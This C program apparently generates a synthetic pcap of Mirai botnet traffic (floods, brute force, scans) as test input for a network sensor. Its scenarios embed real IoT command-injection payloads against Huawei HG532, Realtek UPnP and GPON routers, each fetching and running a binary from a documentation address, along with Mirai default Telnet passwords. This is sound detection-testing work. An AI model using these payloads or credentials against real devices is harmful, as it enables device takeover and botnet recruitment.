/* SPDX-License-Identifier: MIT */
/* mkattacks OUT.pcap: writes a synthetic capture of Mirai attacks for `mamori sensor`, one
 * scenario per time slot, each with its own documentation addresses (RFC 5737, RFC 3849) so
 * that every alert can be attributed. The content is fixed: a seeded PRNG, a fixed start date.
 * The floods follow Mirai's attack code (bot/attack_udp.c, attack_tcp.c, attack_gre.c,
 * attack_app.c); tests/data/pcap/attacks/README.md lists the scenarios and the expected alerts. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "../frames.h"

#define START_S   1705276800u /* 2024-01-15 00:00:00 UTC */
#define SLOT_S    180u        /* seconds between scenarios */
#define FLOOD_N   1500u       /* packets of each volumetric flood, all in one second */
#define SMALL_PAY 16u         /* payload bytes where the size does not matter */
#define STOMP_PAY 768u        /* Mirai's default STOMP payload length */

struct gen {
	FILE *fp;
	struct frames f;
	uint64_t rng;
	uint64_t t;     /* timestamp of the next packet, microseconds */
	uint32_t step;  /* microseconds added after each packet */
	unsigned n;     /* packets of the current scenario */
	unsigned total; /* packets written */
	int slot;       /* current scenario */
	int err;
};

/* One TCP connection: the client is the initiator. */
struct conn {
	struct frames_ip c2s, s2c;
	uint16_t cport, sport;
	uint32_t cseq, sseq;
};

static uint64_t
rnd(struct gen *g)
{
	uint64_t z = (g->rng += 0x9e3779b97f4a7c15ull); /* splitmix64 */

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
	return z ^ (z >> 31);
}

static uint32_t
rnd32(struct gen *g)
{
	return (uint32_t)(rnd(g) >> 32);
}

static uint16_t
rnd16(struct gen *g)
{
	return (uint16_t)(rnd(g) >> 48);
}

/* A random port at or above 1024 (ephemeral ports and Mirai's random ports alike). */
static uint16_t
rport(struct gen *g)
{
	return (uint16_t)(1024u + rnd32(g) % 64512u);
}

static void
rbytes(struct gen *g, uint8_t *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		p[i] = (uint8_t)(rnd(g) >> 56);
}

static uint32_t
ip4(unsigned a, unsigned b, unsigned c, unsigned d)
{
	return (uint32_t)(a << 24 | b << 16 | c << 8 | d);
}

/* 2001:db8:<hi>::<lo> */
static void
ip6(uint8_t out[16], uint16_t hi, uint16_t lo)
{
	memset(out, 0, 16);
	out[0] = 0x20;
	out[1] = 0x01;
	out[2] = 0x0d;
	out[3] = 0xb8;
	frames_be16(out + 4, hi);
	frames_be16(out + 14, lo);
}

/* Starts scenario slot: the clock jumps to the slot's first second. */
static void
slot_begin(struct gen *g, int slot)
{
	g->slot = slot;
	g->n = 0;
	g->t = (uint64_t)(START_S + (uint32_t)slot * SLOT_S) * 1000000u;
	g->step = 1000;
}

static void
slot_end(struct gen *g, const char *what)
{
	fprintf(stderr, "mkattacks: slot %2d  +%5us  %-42s %5u packets\n", g->slot,
	    (unsigned)g->slot * SLOT_S, what, g->n);
}

/* Writes the frame built in g->f, stamped g->t, and advances the clock. */
static void
out(struct gen *g)
{
	if (!frames_ok(&g->f) ||
	    frames_pcap_write(g->fp, g->t, frames_data(&g->f), frames_len(&g->f)) != 0)
		g->err = 1;
	g->t += g->step;
	g->n++;
	g->total++;
}

/* Finishes g->f as Ethernet/IP (v4 or v6) carrying protocol proto. */
static void
wrap_ip(struct gen *g, struct frames_ip *ip, uint8_t proto)
{
	if (ip->ver == 6) {
		frames_ipv6(&g->f, ip, proto);
		frames_eth(&g->f, 0x86dd);
	} else {
		ip->id = rnd16(g);
		frames_ipv4(&g->f, ip, proto);
		frames_eth(&g->f, 0x0800);
	}
}

/* ---- TCP sessions ---------------------------------------------------------------------- */

static void
conn_init4(struct gen *g, struct conn *c, uint32_t cli, uint32_t srv, uint16_t sport)
{
	c->c2s = frames_ip4(cli, srv);
	c->s2c = frames_ip4(srv, cli);
	c->c2s.frag = 0x4000;
	c->s2c.frag = 0x4000;
	c->cport = rport(g);
	c->sport = sport;
	c->cseq = rnd32(g);
	c->sseq = rnd32(g);
}

static void
conn_init6(
    struct gen *g, struct conn *c, const uint8_t cli[16], const uint8_t srv[16], uint16_t sport)
{
	c->c2s = frames_ip6(cli, srv);
	c->s2c = frames_ip6(srv, cli);
	c->cport = rport(g);
	c->sport = sport;
	c->cseq = rnd32(g);
	c->sseq = rnd32(g);
}

/* One segment; from_srv picks the direction. */
static void
seg(struct gen *g, struct conn *c, int from_srv, uint8_t flags, const void *data, size_t len)
{
	struct frames_tcp t = frames_tcp_default(
	    from_srv ? c->sport : c->cport, from_srv ? c->cport : c->sport, flags);
	uint32_t *seq = from_srv ? &c->sseq : &c->cseq;

	t.seq = *seq;
	t.ack = (flags & FRAMES_TCP_ACK) ? (from_srv ? c->cseq : c->sseq) : 0;
	if (flags & FRAMES_TCP_SYN)
		t.mss = 1460;
	frames_init(&g->f);
	frames_put(&g->f, data, len);
	frames_tcp(&g->f, from_srv ? &c->s2c : &c->c2s, &t);
	wrap_ip(g, from_srv ? &c->s2c : &c->c2s, 6);
	out(g);
	*seq += (uint32_t)len + ((flags & (FRAMES_TCP_SYN | FRAMES_TCP_FIN)) ? 1u : 0u);
}

static void
conn_open(struct gen *g, struct conn *c)
{
	seg(g, c, 0, FRAMES_TCP_SYN, NULL, 0);
	seg(g, c, 1, FRAMES_TCP_SYN | FRAMES_TCP_ACK, NULL, 0);
	seg(g, c, 0, FRAMES_TCP_ACK, NULL, 0);
}

/* Data from one side, acknowledged by the other. */
static void
conn_send(struct gen *g, struct conn *c, int from_srv, const void *data, size_t len)
{
	seg(g, c, from_srv, FRAMES_TCP_PSH | FRAMES_TCP_ACK, data, len);
	seg(g, c, !from_srv, FRAMES_TCP_ACK, NULL, 0);
}

static void
conn_sends(struct gen *g, struct conn *c, int from_srv, const char *s)
{
	conn_send(g, c, from_srv, s, strlen(s));
}

static void
conn_close(struct gen *g, struct conn *c)
{
	seg(g, c, 0, FRAMES_TCP_FIN | FRAMES_TCP_ACK, NULL, 0);
	seg(g, c, 1, FRAMES_TCP_FIN | FRAMES_TCP_ACK, NULL, 0);
	seg(g, c, 0, FRAMES_TCP_ACK, NULL, 0);
}

/* ---- UDP -------------------------------------------------------------------------------- */

static void
udp4(struct gen *g, uint32_t src, uint32_t dst, uint16_t sport, uint16_t dport, const void *data,
    size_t len)
{
	struct frames_ip ip = frames_ip4(src, dst);

	ip.frag = 0x4000; /* Mirai sets DF on its raw floods */
	frames_init(&g->f);
	frames_put(&g->f, data, len);
	frames_udp(&g->f, &ip, sport, dport);
	wrap_ip(g, &ip, 17);
	out(g);
}

/* ---- the floods ------------------------------------------------------------------------ */

/* attack_gre.c: outer IPv4/GRE to the target; GRE IP carries IPv4/UDP, GRE Ethernet carries
 * Ethernet/IPv4/UDP; random inner source and ports, the inner destination is the target. */
static void
gre_flood(struct gen *g, uint32_t bot, uint32_t target, int eth)
{
	uint8_t pay[SMALL_PAY];
	uint16_t sp, dp;

	g->step = 1000000u / FLOOD_N;
	for (unsigned i = 0; i < FLOOD_N; i++) {
		struct frames_ip in = frames_ip4(rnd32(g), target);
		struct frames_ip outer = frames_ip4(bot, target);

		in.frag = 0x4000;
		outer.frag = 0x4000;
		in.id = rnd16(g);
		rbytes(g, pay, sizeof(pay));
		frames_init(&g->f);
		frames_put(&g->f, pay, sizeof(pay));
		sp = rport(g);
		dp = rport(g);
		frames_udp(&g->f, &in, sp, dp);
		frames_ipv4(&g->f, &in, 17);
		if (eth)
			frames_eth(&g->f, 0x0800);
		frames_gre(&g->f, 0, eth ? 0x6558 : 0x0800, 0, 0);
		wrap_ip(g, &outer, 47);
		out(g);
	}
}

/* attack_udp_vse: the Source Engine query to port 27015 from random source ports. */
static void
vse_flood(struct gen *g, uint32_t bot, uint32_t target)
{
	static const char q[] = "\xff\xff\xff\xffTSource Engine Query";

	g->step = 1000000u / FLOOD_N;
	for (unsigned i = 0; i < FLOOD_N; i++)
		udp4(g, bot, target, rport(g), 27015, q, sizeof(q)); /* with the NUL: 25 bytes */
}

/* One DNS query (RD set) for name; the answer is not part of the flood. */
static void
dns_query(struct gen *g, uint32_t src, uint32_t resolver, const char *name)
{
	uint8_t m[300];
	size_t n = 12;
	const char *p = name;

	memset(m, 0, 12);
	frames_be16(m, rnd16(g));
	frames_be16(m + 2, 0x0100);
	frames_be16(m + 4, 1);
	while (*p != '\0' && n < sizeof(m) - 70) {
		const char *dot = strchr(p, '.');
		size_t l = dot ? (size_t)(dot - p) : strlen(p);

		m[n++] = (uint8_t)l;
		memcpy(m + n, p, l);
		n += l;
		p += l + (dot ? 1 : 0);
	}
	m[n++] = 0;
	frames_be16(m + n, 1);     /* A */
	frames_be16(m + n + 2, 1); /* IN */
	n += 4;
	udp4(g, src, resolver, rport(g), 53, m, n);
}

/* attack_udp_dns: random 12-letter labels under the victim's domain, to a public resolver. */
static void
dns_torture(struct gen *g, uint32_t bot, uint32_t resolver, const char *domain, unsigned n)
{
	char name[128];

	g->step = 1000000u / n;
	for (unsigned i = 0; i < n; i++) {
		for (int k = 0; k < 12; k++)
			name[k] = (char)('a' + rnd32(g) % 26);
		(void)snprintf(name + 12, sizeof(name) - 12, ".%s", domain);
		dns_query(g, bot, resolver, name);
	}
}

/* The control: one name asked again and again (a client without a cache). */
static void
dns_same(struct gen *g, uint32_t host, uint32_t resolver, const char *name, unsigned n)
{
	g->step = 1000000u / n;
	for (unsigned i = 0; i < n; i++)
		dns_query(g, host, resolver, name);
}

/* attack_udp_plain: one connected socket, so one 5-tuple. */
static void
udp_plain_flood(struct gen *g, uint32_t bot, uint32_t target)
{
	uint16_t sp = rport(g), dp = rport(g);
	uint8_t pay[SMALL_PAY];

	g->step = 1000000u / FLOOD_N;
	for (unsigned i = 0; i < FLOOD_N; i++) {
		rbytes(g, pay, sizeof(pay));
		udp4(g, bot, target, sp, dp, pay, sizeof(pay));
	}
}

/* attack_udp_generic: raw packets, random ports each. */
static void
udp_generic_flood(struct gen *g, uint32_t bot, uint32_t target)
{
	uint8_t pay[SMALL_PAY];

	g->step = 1000000u / FLOOD_N;
	for (unsigned i = 0; i < FLOOD_N; i++) {
		uint16_t sp, dp;

		rbytes(g, pay, sizeof(pay));
		sp = rport(g); /* one call per statement: the order is fixed */
		dp = rport(g);
		udp4(g, bot, target, sp, dp, pay, sizeof(pay));
	}
}

/* attack_tcp_stomp: a real connection, then raw ACK|PSH segments with its sequence numbers. */
static void
stomp_flood(struct gen *g, uint32_t bot, uint32_t target)
{
	struct conn c;
	uint8_t pay[STOMP_PAY];

	conn_init4(g, &c, bot, target, rport(g));
	conn_open(g, &c);
	g->step = 1000000u / FLOOD_N;
	for (unsigned i = 0; i < FLOOD_N; i++) {
		rbytes(g, pay, sizeof(pay));
		seg(g, &c, 0, FRAMES_TCP_ACK | FRAMES_TCP_PSH, pay, sizeof(pay));
	}
}

/* attack_tcp_syn: spoofed random sources, random ports, DF, and Mirai's options: MSS
 * 1400 + (rand & 0x0f), SACK permitted, timestamp, NOP, window scale 6. */
static void
syn_flood(struct gen *g, uint32_t target)
{
	uint8_t opt[16] = {4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 6};

	g->step = 1000000u / FLOOD_N;
	for (unsigned i = 0; i < FLOOD_N; i++) {
		struct frames_ip ip = frames_ip4(rnd32(g), target);
		uint16_t sp = rport(g), dp = rport(g);
		struct frames_tcp t = frames_tcp_default(sp, dp, FRAMES_TCP_SYN);

		ip.frag = 0x4000;
		t.seq = rnd32(g);
		t.mss = (uint16_t)(1400u + (rnd32(g) & 0x0fu));
		frames_be32(opt + 4, rnd32(g));
		t.opt = opt;
		t.optlen = sizeof(opt);
		frames_init(&g->f);
		frames_tcp(&g->f, &ip, &t);
		wrap_ip(g, &ip, 6);
		out(g);
	}
}

/* attack_app_http: GET requests with browser headers, here one connection each. */
static void
http_flood(struct gen *g, uint32_t bot, uint32_t target, unsigned n)
{
	static const char req[] = "GET / HTTP/1.1\r\n"
	                          "User-Agent: Mozilla/5.0 (Windows NT 10.0; WOW64) "
	                          "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 "
	                          "Safari/537.36\r\n"
	                          "Host: 198.51.100.19\r\n"
	                          "Connection: keep-alive\r\n"
	                          "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,"
	                          "image/webp,*/*;q=0.8\r\n"
	                          "Accept-Language: en-US,en;q=0.8\r\n\r\n";
	static const char resp[] = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
	                           "Content-Length: 13\r\n\r\n<html></html>";
	uint64_t t0 = g->t;

	for (unsigned i = 0; i < n; i++) {
		struct conn c;

		g->t = t0 + (uint64_t)i * (1000000u / n);
		g->step = 500;
		conn_init4(g, &c, bot, target, 80);
		conn_open(g, &c);
		conn_sends(g, &c, 0, req);
		conn_sends(g, &c, 1, resp);
		conn_close(g, &c);
	}
}

/* Connections to SSH: banners, a little key exchange, a close; one every `gap_s` seconds. */
static void
ssh_tries(struct gen *g, uint32_t cli, uint32_t srv, unsigned n, unsigned gap_s)
{
	uint8_t kex[96];
	uint64_t t0 = g->t;

	for (unsigned i = 0; i < n; i++) {
		struct conn c;

		g->t = t0 + (uint64_t)i * gap_s * 1000000u;
		conn_init4(g, &c, cli, srv, 22);
		conn_open(g, &c);
		conn_sends(g, &c, 1, "SSH-2.0-OpenSSH_7.4\r\n");
		conn_sends(g, &c, 0, "SSH-2.0-libssh-0.6.0\r\n");
		rbytes(g, kex, sizeof(kex));
		conn_send(g, &c, 0, kex, sizeof(kex));
		rbytes(g, kex, sizeof(kex));
		conn_send(g, &c, 1, kex, sizeof(kex));
		conn_close(g, &c);
	}
}

/* TFTP: RRQ, the first DATA block (an ELF header) from the server's own port, the ACK. */
static void
tftp_get(struct gen *g, uint32_t cli, uint32_t srv, const char *file)
{
	uint8_t m[128];
	size_t n;
	uint16_t cp = rport(g), tid = rport(g);

	m[0] = 0;
	m[1] = 1;
	n = 2 + (size_t)snprintf((char *)m + 2, sizeof(m) - 2, "%s", file) + 1;
	memcpy(m + n, "octet", 6);
	n += 6;
	udp4(g, cli, srv, cp, 69, m, n);
	memset(m, 0, sizeof(m));
	m[1] = 3;
	m[3] = 1;
	memcpy(m + 4,
	    "\x7f"
	    "ELF\x01\x02\x01",
	    7);
	udp4(g, srv, cli, tid, cp, m, 4 + 60); /* last block: shorter than 512 */
	m[1] = 4;
	udp4(g, cli, srv, cp, tid, m, 4);
}

/* One HTTP request and its response in a session of its own. */
static void
http_session(
    struct gen *g, uint32_t cli, uint32_t srv, uint16_t port, const char *head, const char *body)
{
	static const char resp[] = "HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\n"
	                           "Content-Length: 0\r\n\r\n";
	char req[2048];
	struct conn c;
	int n;

	n = snprintf(req, sizeof(req), "%sContent-Length: %zu\r\n\r\n%s", head, strlen(body), body);
	if (n < 0 || (size_t)n >= sizeof(req)) {
		g->err = 1;
		return;
	}
	conn_init4(g, &c, cli, srv, port);
	conn_open(g, &c);
	conn_send(g, &c, 0, req, (size_t)n);
	conn_sends(g, &c, 1, resp);
	conn_close(g, &c);
}

/* A device fetching an ELF (32-bit ARM, little-endian) over HTTP. */
static void
elf_fetch(struct gen *g, uint32_t dev, uint32_t srv, const char *path)
{
	uint8_t resp[512];
	char req[256];
	struct conn c;
	size_t hl, bl = 200;
	int n;

	n = snprintf(req, sizeof(req), "GET %s HTTP/1.0\r\nHost: 203.0.113.40\r\n\r\n", path);
	hl = (size_t)snprintf((char *)resp, sizeof(resp),
	    "HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: %zu\r\n\r\n",
	    bl);
	if (n < 0 || (size_t)n >= sizeof(req) || hl + bl > sizeof(resp)) {
		g->err = 1;
		return;
	}
	rbytes(g, resp + hl, bl);
	memcpy(resp + hl,
	    "\x7f"
	    "ELF\x01\x01\x01\x00",
	    8);
	memset(resp + hl + 8, 0, 8);
	resp[hl + 16] = 2; /* ET_EXEC */
	resp[hl + 17] = 0;
	resp[hl + 18] = 40; /* EM_ARM */
	resp[hl + 19] = 0;
	conn_init4(g, &c, dev, srv, 80);
	conn_open(g, &c);
	conn_send(g, &c, 0, req, (size_t)n);
	conn_send(g, &c, 1, resp, hl + bl);
	conn_close(g, &c);
}

/* A Telnet login as Mirai's scanner does it: answer the prompts with one pair. */
static void
telnet_login(struct gen *g, struct conn *c, const char *user, const char *pass, int ok)
{
	char line[64];

	conn_open(g, c);
	conn_sends(g, c, 1, "\r\nlogin: ");
	(void)snprintf(line, sizeof(line), "%s\r\n", user);
	conn_sends(g, c, 0, line);
	conn_sends(g, c, 1, "Password: ");
	(void)snprintf(line, sizeof(line), "%s\r\n", pass);
	conn_sends(g, c, 0, line);
	conn_sends(g, c, 1, ok ? "\r\n# " : "\r\nLogin incorrect\r\nlogin: ");
	conn_close(g, c);
}

/* Mirai scanner.c SYNs: seq == destination, no options, random window and source port. */
static void
scan_syn(struct gen *g, uint32_t src, uint32_t dst, int tunnel)
{
	struct frames_ip ip = frames_ip4(src, dst);
	struct frames_tcp t = frames_tcp_default(rport(g), 23, FRAMES_TCP_SYN);

	t.seq = dst;
	t.win = rnd16(g);
	ip.id = rnd16(g);
	frames_init(&g->f);
	frames_tcp(&g->f, &ip, &t);
	frames_ipv4(&g->f, &ip, 6);
	if (tunnel) {
		/* mirrored by a switch: ERSPAN type II in GRE, to a collector */
		struct frames_ip o = frames_ip4(ip4(192, 0, 2, 50), ip4(192, 0, 2, 51));

		frames_eth(&g->f, 0x0800);
		frames_erspan2(&g->f, 0, 1, g->n);
		frames_gre(&g->f, FRAMES_GRE_S, 0x88be, 0, g->n);
		wrap_ip(g, &o, 47);
	} else {
		/* a provider's QinQ: S-tag 100, C-tag 200 */
		static const uint16_t tpid[2] = {0x88a8, 0x8100}, vid[2] = {100, 200};

		frames_eth_tags(&g->f, 2, tpid, vid, 0x0800);
	}
	out(g);
}

/* ---- the scenarios --------------------------------------------------------------------- */

static void
scenarios(struct gen *g)
{
	const uint32_t elf_srv = ip4(203, 0, 113, 40);
	struct conn c;

	slot_begin(g, 0);
	gre_flood(g, ip4(192, 0, 2, 10), ip4(198, 51, 100, 10), 0);
	slot_end(g, "GRE IP flood (greip)");

	slot_begin(g, 1);
	gre_flood(g, ip4(192, 0, 2, 11), ip4(198, 51, 100, 11), 1);
	slot_end(g, "GRE Ethernet flood (greeth)");

	slot_begin(g, 2);
	vse_flood(g, ip4(192, 0, 2, 12), ip4(198, 51, 100, 12));
	slot_end(g, "VSE flood");

	slot_begin(g, 3);
	dns_torture(g, ip4(192, 0, 2, 13), ip4(8, 8, 8, 8), "victim-domain.example", 300);
	slot_end(g, "DNS water torture via 8.8.8.8");

	slot_begin(g, 4);
	dns_same(g, ip4(192, 0, 2, 14), ip4(198, 51, 100, 53), "www.victim-domain.example", 300);
	slot_end(g, "control: one DNS name 300 times");

	slot_begin(g, 5);
	udp_plain_flood(g, ip4(192, 0, 2, 15), ip4(198, 51, 100, 15));
	slot_end(g, "UDP plain flood (one 5-tuple)");

	slot_begin(g, 6);
	udp_generic_flood(g, ip4(192, 0, 2, 16), ip4(198, 51, 100, 16));
	slot_end(g, "UDP generic flood (random ports)");

	slot_begin(g, 7);
	stomp_flood(g, ip4(192, 0, 2, 17), ip4(198, 51, 100, 17));
	slot_end(g, "TCP STOMP flood");

	slot_begin(g, 8);
	syn_flood(g, ip4(198, 51, 100, 18));
	slot_end(g, "SYN flood, spoofed sources, Mirai options");

	slot_begin(g, 9);
	http_flood(g, ip4(192, 0, 2, 19), ip4(198, 51, 100, 19), 150);
	slot_end(g, "HTTP flood: 150 GET/s, a connection each");

	slot_begin(g, 10);
	ssh_tries(g, ip4(192, 0, 2, 20), ip4(198, 51, 100, 20), 12, 4);
	slot_end(g, "SSH brute force: 12 connections in 48 s");

	slot_begin(g, 11);
	ssh_tries(g, ip4(192, 0, 2, 21), ip4(198, 51, 100, 21), 3, 4);
	slot_end(g, "control: 3 SSH connections");

	slot_begin(g, 12);
	tftp_get(g, ip4(198, 51, 100, 22), ip4(203, 0, 113, 22), "mirai.mips");
	slot_end(g, "TFTP RRQ mirai.mips");

	slot_begin(g, 13);
	http_session(g, ip4(203, 0, 113, 30), ip4(198, 51, 100, 30), 37215,
	    "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n"
	    "Host: 198.51.100.30:37215\r\n"
	    "Authorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\", "
	    "nonce=\"88645cefb1f9ede0e336e3569d75ee30\", uri=\"/ctrlt/DeviceUpgrade_1\", "
	    "response=\"3612f843a42db38f48f59d2a3597e19c\", algorithm=\"MD5\", qop=\"auth\", "
	    "nc=00000001, cnonce=\"248d1a2560100669\"\r\n",
	    "<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" "
	    "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body>"
	    "<u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">"
	    "<NewStatusURL>$(/bin/busybox wget -g 203.0.113.9 -l /tmp/x -r /mips)</NewStatusURL>"
	    "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>");
	slot_end(g, "exploit: Huawei HG532 DeviceUpgrade_1");

	slot_begin(g, 14);
	http_session(g, ip4(203, 0, 113, 31), ip4(198, 51, 100, 31), 52869,
	    "POST /picsdesc.xml HTTP/1.1\r\n"
	    "Host: 198.51.100.31:52869\r\n"
	    "Content-Type: text/xml; charset=\"utf-8\"\r\n"
	    "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n",
	    "<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" "
	    "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body>"
	    "<u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\">"
	    "<NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort>"
	    "<NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort>"
	    "<NewInternalClient>`cd /var; rm -rf nig; wget http://203.0.113.9/nig -O nig; "
	    "chmod 777 nig; ./nig realtek`</NewInternalClient>"
	    "<NewEnabled>1</NewEnabled><NewPortMappingDescription>syncthing"
	    "</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration>"
	    "</u:AddPortMapping></s:Body></s:Envelope>");
	slot_end(g, "exploit: Realtek picsdesc.xml");

	/* percent-encoded: the rule only matches after decoding (dest%5Fhost, %57get) */
	slot_begin(g, 15);
	http_session(g, ip4(203, 0, 113, 32), ip4(198, 51, 100, 32), 8080,
	    "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n"
	    "Host: 198.51.100.32:8080\r\n"
	    "Content-Type: application/x-www-form-urlencoded\r\n",
	    "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest%5Fhost=%60busybox+%57get+"
	    "http://203.0.113.9/mips+-O+->/tmp/gpon8080;sh+/tmp/gpon8080%60&ipv=0");
	slot_end(g, "exploit: GPON diag_Form (percent-encoded)");

	slot_begin(g, 16);
	http_session(g, ip4(203, 0, 113, 33), ip4(198, 51, 100, 33), 37215,
	    "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n"
	    "Host: 198.51.100.33:37215\r\n",
	    "<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" "
	    "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body>"
	    "<u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">"
	    "<NewStatusURL>http://203.0.113.33/status</NewStatusURL>"
	    "<NewDownloadURL>http://203.0.113.33/fw/HG532e-V100R001C02B017.bin</NewDownloadURL>"
	    "</u:Upgrade></s:Body></s:Envelope>");
	slot_end(g, "control: DeviceUpgrade_1 without injection");

	slot_begin(g, 17);
	conn_init4(g, &c, ip4(192, 0, 2, 40), ip4(198, 51, 100, 40), 23);
	telnet_login(g, &c, "root", "xc3511", 1);
	g->t += 5000000u;
	elf_fetch(g, ip4(198, 51, 100, 40), elf_srv, "/bins/mirai.arm");
	slot_end(g, "Telnet default login, then ELF over HTTP");

	slot_begin(g, 18);
	elf_fetch(g, ip4(198, 51, 100, 41), elf_srv, "/firmware/cam-fw.elf");
	slot_end(g, "ELF over HTTP, device not compromised");

	slot_begin(g, 19);
	for (unsigned i = 0; i < 5; i++)
		scan_syn(g, ip4(192, 0, 2, 52), ip4(198, 51, 100, 60 + i), 1);
	slot_end(g, "Mirai scan SYNs inside ERSPAN II");

	slot_begin(g, 20);
	for (unsigned i = 0; i < 5; i++)
		scan_syn(g, ip4(192, 0, 2, 53), ip4(198, 51, 100, 70 + i), 0);
	slot_end(g, "Mirai scan SYNs with two VLAN tags");

	slot_begin(g, 21);
	{
		static const char *const pairs[3][2] = {
		    {"root", "xc3511"}, {"root", "vizxv"}, {"admin", "admin"}};
		uint8_t a[16], v[16];

		ip6(a, 0, 0x66);
		ip6(v, 1, 0x23);
		for (unsigned i = 0; i < 3; i++) {
			g->t += 2000000u;
			conn_init6(g, &c, a, v, 23);
			telnet_login(g, &c, pairs[i][0], pairs[i][1], 0);
		}
	}
	slot_end(g, "IPv6 Telnet brute force, 3 sessions");
}

int
main(int argc, char **argv)
{
	struct gen *g;
	int rc = 0;

	if (argc != 2) {
		fprintf(stderr, "usage: mkattacks OUT.pcap\n");
		return 2;
	}
	g = calloc(1, sizeof(*g));
	if (g == NULL) {
		fprintf(stderr, "mkattacks: out of memory\n");
		return 1;
	}
	g->rng = 0x6d616d6f72690001ull;
	g->fp = fopen(argv[1], "wb");
	if (g->fp == NULL) {
		perror(argv[1]);
		free(g);
		return 1;
	}
	if (frames_pcap_open(g->fp, 1) != 0)
		g->err = 1;
	scenarios(g);
	if (fclose(g->fp) != 0)
		g->err = 1;
	if (g->err) {
		fprintf(stderr, "mkattacks: %s: write or frame error\n", argv[1]);
		rc = 1;
	} else {
		fprintf(stderr, "mkattacks: wrote %u packets to %s\n", g->total, argv[1]);
	}
	free(g);
	return rc;
}
